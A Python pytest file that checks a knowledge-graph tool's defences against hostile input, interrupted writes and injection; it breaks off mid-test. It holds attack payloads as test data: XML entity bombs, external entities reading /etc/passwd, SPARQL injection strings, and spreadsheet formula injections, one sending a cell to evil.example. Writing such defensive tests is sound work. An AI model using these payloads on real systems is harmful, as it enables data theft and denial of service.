"""Hostile input, bad data, interrupted writes: issue 8's checklist, case by case.

Researchers load graphs others wrote and publish pages others open. Each section below is one
bullet of the issue; a case already tested elsewhere is rerun from here (the function is
imported under a name pytest does not collect twice) or named in a comment, so this file can be
read against the issue. Beyond the list: RDF/XML entity bombs and deep nesting, SERVICE/LOAD
reaching the network, stale temporary files, CSV formula injection, million-character labels,
and a fuzzed CLI (``tests/test_properties.py`` holds the hypothesis properties).
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from rdflib import Literal, URIRef
from rdflib.compare import isomorphic

import graph
from graph.errors import ExportError, GraphLoadError, QueryError, QueryTimeoutError
from graph.export import remove_stale_temporaries, render, write_atomic
from graph.generate import generate_story
from graph.namespaces import HER, OA
from tests.check.test_evidence import (
    test_a_quote_not_in_the_source_is_reported_with_its_claim as check_quote_not_in_source,
)
from tests.check.test_validate import BREAKAGES
from tests.check.test_validate import (
    test_each_breakage_is_reported_in_plain_words as check_breakage,
)
from tests.conftest import ROOT
from tests.hostile_helpers import cli, cli_bounded, listener, long_label_story, unprivileged
from tests.stores.test_backends import test_hostile_strings_are_only_strings as check_hostile_string
from tests.stores.test_backends import (
    test_invalid_iris_are_refused_before_running as check_hostile_iri,
)
from tests.stores.test_backends import triple_count

LOCAL_STORES = ("memory", "oxigraph")
RDF_NS = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"


def _rdfxml(body: str, doctype: str = "") -> str:
    return (f'<?xml version="1.0"?>\n{doctype}<rdf:RDF xmlns:rdf="{RDF_NS}" '
            f'xmlns:s="https://schema.org/">\n{body}\n</rdf:RDF>\n')


def _laughs(levels: int = 9) -> str:
    entities = ['<!ENTITY l0 "' + "ha" * 40 + '">']
    entities += [f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, levels + 1)]
    return "<!DOCTYPE rdf:RDF [\n " + "\n ".join(entities) + "\n]>\n"


# ---------------------------------------------------------------------------------------------
# Malformed input: one clear error naming the file and where, exit code 1, no traceback


def _truncated_turtle(folder: Path) -> tuple[Path, int]:
    text = (ROOT / "data" / "her.ttl").read_text(encoding="utf-8")
    cut = text[: len(text) // 2].rstrip()
    path = folder / "truncated.ttl"
    path.write_text(cut, encoding="utf-8")
    return path, cut.count("\n") + 1


def _write(folder: Path, name: str, content: str | bytes) -> Path:
    path = folder / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


# (case, file name, content, line the error must name or None, words the message must hold)
MALFORMED = [
    ("wrong prefix", "prefix.ttl",
     '@prefix schema: <https://schema.org/> .\n<https://e/a> schma:name "A" .\n', 2,
     "schma"),
    ("binary file", "photo.ttl", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
     None, "binary file, not RDF text"),
    ("empty file", "empty.jsonld", "\n  \n", None, "the file is empty"),
    ("JSON-LD in a .ttl file", "wrong.ttl",
     '{"@id": "https://e/a", "https://schema.org/name": "A"}', 1,
     "invalid Turtle: { is not a valid subject"),
    ("Turtle in a .jsonld file", "wrong.jsonld", '<https://e/a> <https://e/b> "c" .\n', 1,
     "invalid JSON-LD"),
    ("UTF-16 text", "utf16.ttl", '<https://e/a> <https://e/b> "c" .\n'.encode("utf-16"), None,
     "UTF-16"),
    ("not well-formed XML", "broken.rdf", _rdfxml('<rdf:Description rdf:about="https://e/a">\n'
                                                  "<s:name>A</s:nom></rdf:Description>"), 4,
     "not well-formed XML"),
]


@pytest.mark.parametrize(("case", "name", "content", "line", "words"), MALFORMED,
                         ids=[m[0] for m in MALFORMED])
@pytest.mark.parametrize("store", LOCAL_STORES)
def test_malformed_input_is_one_clear_error(case: str, name: str, content: str | bytes,
                                            line: int | None, words: str, store: str,
                                            tmp_path: Path) -> None:
    path = _write(tmp_path, name, content)
    with pytest.raises(GraphLoadError) as info:
        graph.load(path, store=store)
    message = str(info.value)
    assert message.startswith(f"{path}:{line}:" if line else f"{path}:"), message
    assert words in message and "\n" not in message
    assert info.value.path == str(path) and info.value.line == line
    if store == "memory":  # the CLI loads into memory
        error = cli("stats", "-g", str(path))
        assert error.code == 1 and words in error.error_line and str(path) in error.error_line


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_or_a_device_is_refused_instead_of_hanging(tmp_path: Path) -> None:
    # Opening a named pipe blocks until something writes to it; /dev/null reads as nothing.
    pipe = tmp_path / "story.ttl"
    os.mkfifo(pipe)
    for path in (pipe, Path("/dev/null")):
        for store in LOCAL_STORES:
            with pytest.raises(GraphLoadError, match=rf"^{path}: not a regular file"):
                graph.load(path, store=store)
        error = cli_bounded("stats", "-g", str(path), seconds=60)
        assert error.code == 1 and "not a regular file" in error.error_line
        error = cli_bounded("validate", "--source", str(path), seconds=60)
        assert error.code == 1 and "not a regular file" in error.error_line


def test_truncated_turtle_names_the_line_where_it_ends(tmp_path: Path) -> None:
    path, last_line = _truncated_turtle(tmp_path)
    with pytest.raises(GraphLoadError, match=rf"^{path}:{last_line}:\d+: invalid Turtle"):
        graph.load(path)
    error = cli("validate", str(path))
    assert error.code == 1 and f"{path}:{last_line}:" in error.error_line


def test_a_utf8_byte_order_mark_is_not_an_error(tmp_path: Path) -> None:
    # Windows editors write one; the Turtle family's parsers refuse it, with an invisible
    # character in the message. It is skipped (and lines still count from the right place).
    path = _write(tmp_path, "bom.ttl", b'\xef\xbb\xbf<https://e/a> <https://e/b> "c" .\r\n')
    assert len(graph.load(path)) == len(graph.load(path, store="oxigraph")) == 1
    _write(tmp_path, "bom.ttl", b'\xef\xbb\xbf<https://e/a> <https://e/b> "c" .\n<https://e/a> .')
    with pytest.raises(GraphLoadError, match=rf"^{path}:2:"):
        graph.load(path)


def test_a_huge_literal_is_a_clear_error_not_a_crash(tmp_path: Path) -> None:
    # 50 MB in one string: Oxigraph's parsers hold at most 16 MiB per term and raised a bare
    # MemoryError (a traceback in the CLI).
    path = tmp_path / "huge.nt"
    with path.open("w", encoding="utf-8") as handle:
        handle.write('<https://e/a> <https://schema.org/name> "short" .\n')
        handle.write('<https://e/a> <https://schema.org/description> "')
        handle.write("All work and no play. " * 2_300_000)
        handle.write('" .\n')
    for store in LOCAL_STORES:
        with pytest.raises(GraphLoadError, match=rf"^{path}:2: a single term .* longer than the "
                                                 r"16 MiB"):
            graph.load(path, store=store)
    error = cli_bounded("stats", "-g", str(path))
    assert error.code == 1 and f"{path}:2:" in error.error_line


def test_a_remote_jsonld_context_is_refused_and_never_fetched(tmp_path: Path) -> None:
    with listener() as remote:
        path = _write(tmp_path, "remote.jsonld", json.dumps({
            "@context": f"{remote.url}/context.jsonld", "@id": "https://e/x", "name": "X"}))
        for store in LOCAL_STORES:
            with pytest.raises(GraphLoadError, match=rf"^{path}: .*remote @context.*offline"):
                graph.load(path, store=store)
        error = cli("stats", "-g", str(path))
        assert error.code == 1 and "remote @context" in error.error_line
        time.sleep(0.2)
    assert remote.connections == []


# RDF/XML that attacks its reader. Without the check each one hung, ate gigabytes (the billion
# laughs took 7 GB in a minute) or read what it should not: the CLI runs bounded, so a broken
# build fails the test instead of the machine.
XML_ATTACKS = [
    ("billion laughs", _rdfxml('<rdf:Description rdf:about="https://e/a"><s:name>&l9;'
                               "</s:name></rdf:Description>", _laughs()),
     "billion laughs"),
    ("billion laughs in an attribute", _rdfxml('<rdf:Description rdf:about="https://e/a" '
                                               's:name="&l9;"/>', _laughs()), "billion laughs"),
    ("a million references to a big entity",
     _rdfxml('<rdf:Description rdf:about="https://e/a"><s:name>' + "&big;" * 200_000 +
             "</s:name></rdf:Description>",
             '<!DOCTYPE rdf:RDF [ <!ENTITY big "' + "x" * 1000 + '"> ]>\n'),
     "expand to more than"),
    ("external entity: a local file", _rdfxml(
        '<rdf:Description rdf:about="https://e/a"><s:name>&secret;</s:name></rdf:Description>',
        '<!DOCTYPE rdf:RDF [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>\n'),
     "external entity &secret;"),
    ("parameter entity", _rdfxml(
        '<rdf:Description rdf:about="https://e/a"/>',
        '<!DOCTYPE rdf:RDF [ <!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote; ]>\n'),
     "parameter entity"),
    ("200,000 nested elements", _rdfxml(
        '<rdf:Description rdf:about="https://e/a">' + "<s:knows><rdf:Description>" * 200_000 +
        "</rdf:Description></s:knows>" * 200_000 + "</rdf:Description>"),
     "nested more than 1,000 deep"),
]


@pytest.mark.parametrize(("case", "content", "words"), XML_ATTACKS,
                         ids=[a[0] for a in XML_ATTACKS])
def test_rdfxml_attacks_are_refused(case: str, content: str, words: str,
                                    tmp_path: Path) -> None:
    path = _write(tmp_path, "attack.rdf", content)
    error = cli_bounded("stats", "-g", str(path), seconds=60, memory=2 << 30)
    assert error.code == 1, error
    line = error.error_line
    assert words in line and f"{path}:" in line, line
    assert "root:" not in error.stdout + error.stderr  # nothing of /etc/passwd came through
    for store in LOCAL_STORES:  # safe to try in this process now that the CLI survived it
        with pytest.raises(GraphLoadError, match=rf"^{path}:\d+: "):
            graph.load(path, store=store)


def test_an_external_entity_on_the_network_is_never_fetched(tmp_path: Path) -> None:
    with listener() as remote:
        path = _write(tmp_path, "fetch.rdf", _rdfxml(
            '<rdf:Description rdf:about="https://e/a"><s:name>&x;</s:name></rdf:Description>',
            f'<!DOCTYPE rdf:RDF [ <!ENTITY x SYSTEM "{remote.url}/x"> ]>\n'))
        with pytest.raises(GraphLoadError, match="never reads or fetches"):
            graph.load(path)
        external_dtd = _write(tmp_path, "dtd.rdf", _rdfxml(
            '<rdf:Description rdf:about="https://e/a"><s:name>A</s:name></rdf:Description>',
            f'<!DOCTYPE rdf:RDF SYSTEM "{remote.url}/rdf.dtd">\n'))
        assert len(graph.load(external_dtd)) == 1  # declared, never read
        time.sleep(0.2)
    assert remote.connections == []


def test_ordinary_entities_still_load(tmp_path: Path) -> None:
    # What ontology editors write: entities that abbreviate namespaces.
    path = _write(tmp_path, "onto.rdf", _rdfxml(
        '<rdf:Description rdf:about="&e;a"><s:name>A &amp; B</s:name>'
        '<s:knows rdf:resource="&e;b"/></rdf:Description>',
        '<!DOCTYPE rdf:RDF [ <!ENTITY e "https://example.org/"> ]>\n'))
    kg = graph.load(path)
    assert (URIRef("https://example.org/a"), URIRef("https://schema.org/name"),
            Literal("A & B")) in kg.rdf
    assert len(kg) == 2


# ---------------------------------------------------------------------------------------------
# Data that breaks the model: reported in plain words; `build` refuses unless --force

MODEL_BREAKAGES = ["event without order", "influence without evidence",
                   "cycle in the event order", "character with two names"]
_BREAKS = {b[0]: b for b in BREAKAGES}


@pytest.mark.parametrize("name", MODEL_BREAKAGES)
def test_each_breakage_of_the_issue_is_reported(name: str) -> None:
    # tests/check/test_validate.py, with the node, property and words
    check_breakage(*_BREAKS[name])


def test_a_quote_not_in_the_source_is_reported(tmp_path: Path) -> None:
    check_quote_not_in_source(tmp_path)  # tests/check/test_evidence.py


def _broken_graph(name: str, folder: Path) -> Path:
    kg = graph.load()
    _BREAKS[name][1](kg)
    path = folder / "broken.ttl"
    kg.rdf.serialize(path, format="turtle")
    return path


@pytest.mark.parametrize("name", MODEL_BREAKAGES)
def test_build_refuses_to_export_a_broken_graph(name: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    error = cli("build", "-g", str(_broken_graph(name, tmp_path)), "--out", str(out))
    assert error.code == 1
    line = error.error_line
    assert "not exporting" in line and "problem(s)" in line and "--force" in line
    assert not out.exists() or not any(out.iterdir())
    # --force: tests/cli/test_cli.py::test_build_refuses_an_invalid_graph_unless_forced


def test_build_refuses_a_quote_that_is_not_in_the_source(tmp_path: Path) -> None:
    story = generate_story(characters=3, seed=8)
    source = story.write_source(tmp_path / "source.txt")
    kg = story.load()
    selector, quote = next((s, o) for s, o in kg.rdf.subject_objects(OA.exact))
    kg.rdf.set((selector, OA.exact, Literal(f"{quote} (and words nobody wrote)")))
    path = tmp_path / "story.ttl"
    kg.rdf.serialize(path, format="turtle")
    out = tmp_path / "out"
    error = cli("build", "-g", str(path), "--source", str(source), "--out", str(out))
    assert error.code == 1
    assert "not exporting" in error.error_line and "quote not found" in error.error_line
    assert not out.exists() or not any(out.iterdir())
    forced = cli("build", "-g", str(path), "--source", str(source), "--out", str(out), "--force")
    assert forced.code == 0 and (out / "story.ttl").is_file()


# ---------------------------------------------------------------------------------------------
# SPARQL: bound values never escape; updates refused on read-only paths; time limits


@pytest.mark.parametrize("value", ['"} ; DROP ALL ; {"', "'} ; DROP ALL ; {'",
                                   '"> } ; DROP ALL ; { <x:y'])
def test_a_value_crafted_to_escape_its_binding_is_only_a_string(her_on: graph.KnowledgeGraph,
                                                                value: str) -> None:
    check_hostile_string(her_on, value)  # tests/stores/test_backends.py, on every store


@pytest.mark.parametrize("iri", ["https://w3id.org/her-graph/her/Amy> } ; DROP ALL ; { <x:y",
                                 "urn:x>", "https://e/a>\n<https://e/b"])
def test_an_iri_with_a_closing_bracket_is_refused(her_on: graph.KnowledgeGraph,
                                                  iri: str) -> None:
    check_hostile_iri(her_on, iri)  # tests/stores/test_backends.py, on every store


def test_cli_parameters_are_bound_in_queries_and_updates(tmp_path: Path) -> None:
    hostile = '"} ; DROP ALL ; {"'
    found = cli("query", "-e", "SELECT ?c WHERE { ?c schema:name ?name }", "-p",
                f"name={hostile}", "--format", "json")
    assert found.code == 0 and json.loads(found.stdout) == []
    refused = cli("query", "-e", "SELECT ?n WHERE { ?c schema:name ?n }", "-p",
                  "c=<her:Amy> } ; DROP ALL ; { <x:y>")
    assert refused.code == 2 and "is not an IRI" in refused.error_line
    saved = tmp_path / "changed.ttl"
    update = cli("query", "--allow-update", "--save", str(saved), "-e",
                 "INSERT { her:Amy rdfs:comment ?note } WHERE { }", "-p", f"note={hostile}")
    assert update.code == 0, update
    changed = graph.load(saved)
    assert len(changed) == len(graph.load()) + 1
    assert (HER.Amy, URIRef("http://www.w3.org/2000/01/rdf-schema#comment"),
            Literal(hostile)) in changed.rdf


@pytest.mark.parametrize("update", [
    "DROP ALL", "CLEAR DEFAULT", "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "DELETE WHERE { ?s ?p ?o }", "LOAD <file:///etc/passwd>", "CREATE GRAPH <urn:g>",
    "ADD DEFAULT TO <urn:g>", "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
])
def test_updates_are_refused_on_the_read_only_paths(her_on: graph.KnowledgeGraph,
                                                    update: str) -> None:
    size = triple_count(her_on)
    with pytest.raises(QueryError, match="read-only"):
        her_on.query(update)
    assert triple_count(her_on) == size
    # The CLI: tests/cli/test_cli.py::test_query_is_read_only_unless_updates_are_allowed


@pytest.mark.parametrize("store", LOCAL_STORES)
def test_a_query_over_its_time_limit_is_stopped(store: str) -> None:
    kg = graph.load(store=store)
    # Billions of rows. Oxigraph cannot be interrupted before its first row, so its query
    # streams rows (an aggregate would compute on in the background: see graph.stores.oxigraph).
    text = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }" if store == "oxigraph" else (
        "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }")
    with pytest.raises(QueryTimeoutError, match=r"ran longer than its 0.3 s time limit"):
        kg.query(text, timeout=0.3)
    assert kg.query("ASK { her:Samantha a hg:AICharacter }", timeout=30) is True
    # The SPARQL server's deadline: tests/stores/test_remote.py; the CLI's --timeout:
    # tests/cli/test_cli.py


@pytest.mark.parametrize("store", LOCAL_STORES)
def test_service_and_load_never_reach_the_network(store: str, tmp_path: Path) -> None:
    kg = graph.load(store=store)
    size = len(kg)
    with listener() as remote:
        for text in (f"SELECT * WHERE {{ SERVICE <{remote.url}/sparql> {{ ?s ?p ?o }} }}",
                     f"SELECT * WHERE {{ ?x ?y ?z OPTIONAL {{ SERVICE SILENT <{remote.url}/q>"
                     " { ?s ?p ?o } } } LIMIT 1",
                     f"ASK {{ SERVICE <{remote.url}/s> {{ ?s ?p ?o }} }}"):
            with pytest.raises(QueryError, match=r"SERVICE <http://127\.0\.0\.1:\d+/.*offline"):
                kg.query(text)
        with pytest.raises(QueryError, match="update uses LOAD <http"):
            kg.update(f"LOAD <{remote.url}/data.ttl>")
        with pytest.raises(QueryError, match="LOAD <http"):
            kg.update(f"LOAD SILENT <{remote.url}/data.ttl> INTO GRAPH <urn:g>")
        error = cli("query", "-e", f"SELECT * WHERE {{ SERVICE <{remote.url}/s> {{ ?s ?p ?o }} }}")
        assert error.code == 1 and "--allow-network" in error.error_line
        error = cli("query", "--allow-update", "--save", str(tmp_path / "x.ttl"), "-e",
                    f"LOAD <{remote.url}/data.ttl>")
        assert error.code == 1 and "LOAD" in error.error_line
        time.sleep(0.2)
        assert remote.connections == []
        assert len(kg) == size
        # Allowed on request: then the engine does connect.
        with pytest.raises(graph.HerGraphError):
            kg.query(f"SELECT * WHERE {{ SERVICE <{remote.url}/sparql> {{ ?s ?p ?o }} }}",
                     allow_network=True, timeout=20)
        deadline = time.monotonic() + 10
        while not remote.connections and time.monotonic() < deadline:
            time.sleep(0.05)
        assert remote.connections


@pytest.mark.parametrize("store", LOCAL_STORES)
def test_from_and_using_never_reach_the_network(store: str, tmp_path: Path) -> None:
    # rdflib on its own downloads a FROM / FROM NAMED / USING graph it does not hold, from any
    # address, or reads a local file named by a file: IRI. Here such a graph is empty.
    secret = tmp_path / "secret.ttl"
    secret.write_text("<urn:secret> <urn:is> 'read' .\n", encoding="utf-8")
    kg = graph.load(store=store)
    size = len(kg)
    with listener() as remote:
        for clause in (f"FROM <{remote.url}/a>", f"FROM NAMED <{remote.url}/b>",
                       f"FROM <{secret.as_uri()}>"):
            rows = kg.query(f"SELECT * {clause} WHERE {{ ?s ?p ?o }}", timeout=20)
            assert len(rows) == 0, clause
        escaped = r"SELECT * \u0046ROM <" + remote.url + "/c> WHERE { ?s ?p ?o }"
        if store == "memory":  # rdflib reads codepoint escapes anywhere; Oxigraph refuses them
            assert len(kg.query(escaped, timeout=20)) == 0
        kg.update(f"INSERT {{ <urn:x> <urn:y> ?o }} USING <{remote.url}/d> "
                  f"USING NAMED <{secret.as_uri()}> WHERE {{ ?s ?p ?o }}")
        time.sleep(0.2)
        assert remote.connections == []
    assert len(kg) == size
    # The switch rdflib reads is the process's: it is left as it was found.
    import rdflib.plugins.sparql

    assert rdflib.plugins.sparql.SPARQL_LOAD_GRAPHS is True


def test_a_failing_timed_query_on_oxigraph_reports_only_its_error(
        monkeypatch: pytest.MonkeyPatch) -> None:
    # The worker thread handed its exception over with the frames holding pyoxigraph's result
    # iterator, which pyo3 then refused to free on the caller's thread: a RuntimeError
    # traceback on stderr after the real error, at the next garbage collection.
    import gc

    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    kg = graph.load(store="oxigraph")
    for _ in range(3):
        with pytest.raises(QueryError, match="service name is unbound"):
            kg.query("SELECT * WHERE { SERVICE ?endpoint { ?s ?p ?o } }", timeout=10,
                     allow_network=True)
        gc.collect()
    assert unraisable == []


def test_rdflib_errors_in_a_query_are_query_errors() -> None:
    # rdflib's evaluator fails with bare Python errors (here a TypeError, sorting on an error).
    with pytest.raises(QueryError, match="the query failed while running"):
        graph.load().query("SELECT * WHERE { ?s ?p ?o } ORDER BY (1/0)")


# ---------------------------------------------------------------------------------------------
# HTML: hostile labels, descriptions and quotes never execute and show as text.
#
# In a real browser: tests/page/test_browser.py::test_hostile_text_shows_as_text_and_runs_nothing
# (the story page: script tags, event handlers, javascript: URLs, U+202E and U+2028 in a name,
# a description and a quote, hovered, searched and focused; no dialog, no window.__pwned, no
# element made from the data) and ::test_hostile_text_runs_nothing_on_any_page (every view).
# In the page source: tests/page/test_visualize.py::test_hostile_text_is_data_never_markup. For any
# string: tests/test_properties.py. Million-character texts: the last section below.


# ---------------------------------------------------------------------------------------------
# Writes: atomic; a killed run leaves the previous file and, after the next run, no temporary


def test_an_interrupted_write_leaves_the_previous_file(tmp_path: Path) -> None:
    from tests.export.test_export import (
        test_an_interrupted_write_leaves_the_previous_file_whole as check,
    )

    with pytest.MonkeyPatch.context() as monkeypatch:
        check(tmp_path, monkeypatch)  # tests/export/test_export.py: an exception before the rename


def _temporaries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def _writing_into(pid: int, folder: Path) -> bool:
    """Whether process ``pid`` has a file open in ``folder``: the export is being written."""
    try:
        links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
    except OSError:  # the process is gone, or a descriptor closed while we looked
        return False
    return any(link.startswith(f"{folder}/") for link in links)


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs Linux's /proc")
def test_a_killed_export_leaves_the_previous_file_and_nothing_else(tmp_path: Path) -> None:
    # A graph of a few long texts: loading is quick, and writing its 80 MB of Turtle takes long
    # enough to be caught in the middle.
    story = tmp_path / "long.nt"
    with story.open("w", encoding="utf-8") as handle:
        for number in range(32):
            text = f"Chapter {number}. " + "It was a dark and stormy night; " * 78_000
            handle.write(f'<https://e/chapter-{number}> <https://schema.org/text> "{text}" .\n')
    out = tmp_path / "out"
    out.mkdir()
    target = out / "long.ttl"
    target.write_bytes(b"the previous export\n")
    for _attempt in range(3):
        process = subprocess.Popen(
            [sys.executable, "-m", "graph.cli", "export", "-g", str(story), "--format", "ttl",
             "-o", str(target)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while process.poll() is None and not _writing_into(process.pid, out):
            time.sleep(0.0005)
        if process.poll() is None:
            process.send_signal(signal.SIGKILL)
        process.wait(timeout=60)
        if process.returncode == -signal.SIGKILL:
            break
        target.write_bytes(b"the previous export\n")  # it finished first: try again
    else:
        pytest.fail("could not catch the export in the middle of its write")
    assert target.read_bytes() == b"the previous export\n"
    # The file being written had no name yet (O_TMPFILE): killed, it leaves nothing behind.
    assert sorted(p.name for p in out.iterdir()) == ["long.ttl"]
    finished = subprocess.run([sys.executable, "-m", "graph.cli", "export", "-g", str(story),
                               "--format", "ttl", "-o", str(target)], capture_output=True,
                              text=True, timeout=300, check=False)
    assert finished.returncode == 0, finished.stderr
    assert sorted(p.name for p in out.iterdir()) == ["long.ttl"]
    assert target.read_bytes().startswith(b"PREFIX schema: <https://schema.org/>")


def test_without_unnamed_files_a_killed_writers_temporary_is_removed_by_the_next_write(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Where O_TMPFILE is missing (macOS, some file systems) the temporary file has a name; a
    # writer killed at the moment of its write leaves it, named after the writer's process.
    import graph.atomic

    monkeypatch.delattr(graph.atomic.os, "O_TMPFILE", raising=False)
    target = tmp_path / "her.ttl"
    target.write_bytes(b"the previous export\n")
    written: list[Path] = []
    real_replace = os.replace

    def killed(source: str | os.PathLike[str], _target: object) -> None:
        written.append(Path(source))
        raise KeyboardInterrupt  # stands for the kill: nothing after this point runs

    monkeypatch.setattr(graph.atomic.os, "replace", killed)
    with pytest.raises(KeyboardInterrupt):
        write_atomic(target, b"the new export\n")
    monkeypatch.setattr(graph.atomic.os, "replace", real_replace)
    assert target.read_bytes() == b"the previous export\n"
    assert _temporaries(tmp_path) == []  # an interrupted writer that runs on removes its own
    # A killed one cannot: its file stays, under its process number, until the next write.
    finished = subprocess.Popen([sys.executable, "-c", "pass"])
    finished.wait()
    stale = tmp_path / f".her.ttl.{finished.pid}.deadbeef.tmp"
    stale.write_bytes(b"half an export")
    write_atomic(target, b"the new export\n")
    assert target.read_bytes() == b"the new export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["her.ttl"]


def test_only_temporaries_of_dead_writers_of_the_same_file_are_removed(tmp_path: Path) -> None:
    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                              capture_output=True, text=True, check=True)
    dead = int(finished.stdout)
    stale = tmp_path / f".her.ttl.{dead}.abcd1234.tmp"
    mine = tmp_path / f".her.ttl.{os.getpid()}.efgh5678.tmp"  # a write in progress here
    other_file = tmp_path / f".her.jsonld.{dead}.abcd1234.tmp"
    not_ours = [tmp_path / "notes.tmp", tmp_path / f"her.ttl.{dead}.abcd1234.tmp"]
    for path in (stale, mine, other_file, *not_ours):
        path.write_text("x")
    assert remove_stale_temporaries(tmp_path / "her.ttl") == [stale]
    assert not stale.exists() and mine.exists() and other_file.exists()
    assert all(p.exists() for p in not_ours)
    write_atomic(tmp_path / "her.jsonld", b"{}")
    assert not other_file.exists()


@pytest.fixture
def open_folder() -> Iterator[Path]:
    """A folder every user can enter (pytest's own are private to their owner)."""
    folder = Path(tempfile.mkdtemp(prefix="her-graph-"))
    folder.chmod(0o755)
    yield folder
    for path in sorted(folder.rglob("*"), reverse=True):
        path.chmod(0o700)
    shutil.rmtree(folder)


def test_an_unwritable_or_missing_folder_is_a_clear_error(open_folder: Path) -> None:
    locked = open_folder / "locked"  # can be entered, not written
    locked.mkdir()
    locked.chmod(0o555)
    private = open_folder / "private"  # cannot even be entered
    (private / "inside").mkdir(parents=True)
    private.chmod(0o700)
    cli("export", "--format", "ttl", "-o", str(open_folder / "warm-up.ttl"))  # imports first

    def attempt() -> str:
        outcomes = []
        for target in (locked / "her.ttl", private / "inside" / "her.ttl"):
            try:
                write_atomic(target, b"x")
                api = "written"
            except ExportError as error:
                api = str(error)
            outcome = cli("export", "--format", "ttl", "-o", str(target))
            outcomes.append([api, outcome.code, outcome.stderr])
        return json.dumps(outcomes)

    for (api, code, stderr), folder in zip(json.loads(unprivileged(attempt)),
                                           (locked, private / "inside"), strict=True):
        assert api.startswith(f"{folder}: cannot write") and "ermission denied" in api, api
        assert code == 1 and stderr.startswith("her-graph: error: ") and stderr.count("\n") == 1
        assert "Traceback" not in stderr and "ermission denied" in stderr
    assert list(locked.iterdir()) == [] and list((private / "inside").iterdir()) == []
    missing = cli("export", "--format", "ttl", "-o", str(open_folder / "no" / "her.ttl"))
    assert missing.code == 1 and "the output folder does not exist" in missing.error_line
    # `build --out` under a file: tests/cli/test_cli.py::test_mistakes_give_one_line_...


def test_a_device_or_a_pipe_is_never_replaced_by_a_file(tmp_path: Path) -> None:
    # Run as root, `her-graph export -o /dev/null` renamed its temporary file over /dev/null.
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with pytest.raises(ExportError, match="is not a regular file"):
        write_atomic(pipe, b"x")
    assert pipe.is_fifo() and _temporaries(tmp_path) == []
    error = cli("export", "--format", "ttl", "-o", str(pipe))
    assert error.code == 1 and "is not a regular file" in error.error_line
    assert pipe.is_fifo()


# ---------------------------------------------------------------------------------------------
# Determinism: builds in fresh processes with other hash seeds give the same bytes
#
# Every exporter, the bundled graph and a user's graph with blank nodes, in fresh processes:
# tests/export/test_export.py::test_every_export_is_byte_identical_across_processes_and_hash_seeds;
# the committed exports rebuilt by the CLI: tests/cli/test_cli.py. Here, `her-graph build` itself.


def test_two_builds_with_different_hash_seeds_are_byte_identical(tmp_path: Path) -> None:
    from tests.export.test_export import USER_TTL

    story = tmp_path / "story.ttl"
    story.write_text(USER_TTL, encoding="utf-8")
    outputs = []
    for seed in ("0", "31337"):
        out = tmp_path / f"out-{seed}"
        result = subprocess.run(
            [sys.executable, "-m", "graph.cli", "build", "-g", str(story), "--out", str(out),
             "--force"], capture_output=True, text=True, timeout=300, check=False,
            env={**os.environ, "PYTHONHASHSEED": seed})
        assert result.returncode == 0, result.stderr
        outputs.append({p.name: p.read_bytes() for p in sorted(out.iterdir())})
    assert len(outputs[0]) >= 10 and outputs[0] == outputs[1]
    assert isomorphic(graph.load(tmp_path / "out-0" / "story.ttl").rdf, graph.load(story).rdf)


# ---------------------------------------------------------------------------------------------
# Beyond the list: CSV exports opened in a spreadsheet


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_reversibly(tmp_path: Path) -> None:
    from graph.export.spreadsheet import restore

    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "\tTAB", "'Tis", "-5", "+1.5e3", "Plain Amy"]
    turtle = "".join(f'<https://e/n{i}> <https://schema.org/name> {json.dumps(text)} ;\n'
                     f'  <https://schema.org/knows> <https://e/n{(i + 1) % len(hostile)}> .\n'
                     for i, text in enumerate(hostile))
    path = _write(tmp_path, "csv.ttl", turtle)
    out = tmp_path / "out"
    out.mkdir()
    assert cli("export", "-g", str(path), "--format", "csv", "-o", str(out / "x")).code == 0
    import csv

    with (out / "x-nodes.csv").open(encoding="utf-8", newline="") as handle:
        labels = [row["label"] for row in csv.DictReader(handle)]
    for label in labels:  # what a spreadsheet would evaluate is text now
        assert not label.startswith(("=", "+", "@", "\t")) or label in ("+1.5e3",)
        assert not label.startswith("-") or label == "-5"
    assert sorted(restore(label) for label in labels) == sorted(hostile)  # nothing lost
    assert "'=HYPERLINK" in (out / "x-nodes.csv").read_text(encoding="utf-8")
    query = cli("query", "-g", str(path), "-e", "SELECT ?n WHERE { ?x schema:name ?n }",
                "--format", "csv")
    rows = query.stdout.splitlines()[1:]
    assert query.code == 0 and sorted(restore(next(csv.reader([r]))[0]) for r in rows) == sorted(
        hostile)
    assert not any(r.startswith(("=", "@", "+cmd")) for r in rows)


def test_csv_keeps_each_row_whole_whatever_line_breaks_a_text_holds(tmp_path: Path) -> None:
    # Found by a longer hypothesis run: Python's csv module quotes no field that holds a lone
    # carriage return when rows end in "\n", so the row broke in two for every reader.
    import csv

    from graph.export.spreadsheet import restore

    texts = ["\r", "a\rb", "line\nbreak", "crlf\r\ninside", "'\r", "=\r"]
